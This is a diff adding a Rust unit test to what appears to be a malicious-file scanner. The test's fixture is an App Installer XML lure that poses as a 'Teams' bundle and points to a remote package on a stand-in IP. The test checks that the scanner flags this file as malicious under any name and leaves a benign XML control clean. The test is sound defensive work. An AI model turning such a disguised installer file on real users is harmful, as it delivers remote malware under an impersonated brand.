@@ -168,3 +168,23 @@ fn ordinary_ini_xml_and_prose_are_not_launchers() {
     let git = "[core]\n\trepositoryformatversion = 0\n[remote \"origin\"]\n\turl = https://example.com/r.git\n";
     assert_clean(&scan("config", git.as_bytes().to_vec()));
 }
+
+/// An App Installer file installs the package its URL serves (the
+/// `ms-appinstaller` lures); it is a launcher whatever its name.
+#[test]
+fn an_app_installer_file() {
+    let a = "<?xml version=\"1.0\" encoding=\"utf-8\"?>\r\n\
+        <AppInstaller Uri=\"https://203.0.113.7/app.appinstaller\" Version=\"1.0.0.0\" \
+        xmlns=\"http://schemas.microsoft.com/appx/appinstaller/2018\">\r\n\
+        <MainBundle Name=\"Teams\" Publisher=\"CN=x\" Version=\"1.0.0.0\" Uri=\"https://203.0.113.7/app.msixbundle\" />\r\n\
+        </AppInstaller>\r\n";
+    for name in ["update.appinstaller", "update.xml", "update.txt"] {
+        let r = scan(name, a.as_bytes().to_vec());
+        assert_eq!(true_type(&r), "appinstaller", "{name}");
+        assert!(has_key(&r, "launcher.remote_target"), "{:?}", keys(&r));
+        assert_eq!(r.verdict, Verdict::Malicious, "{name}");
+    }
+    // Control: XML that mentions it.
+    let x = "<?xml version=\"1.0\"?>\n<notes><p>AppInstaller files carry a Uri.</p></notes>\n";
+    assert_clean(&scan("notes.xml", x.as_bytes().to_vec()));
+}
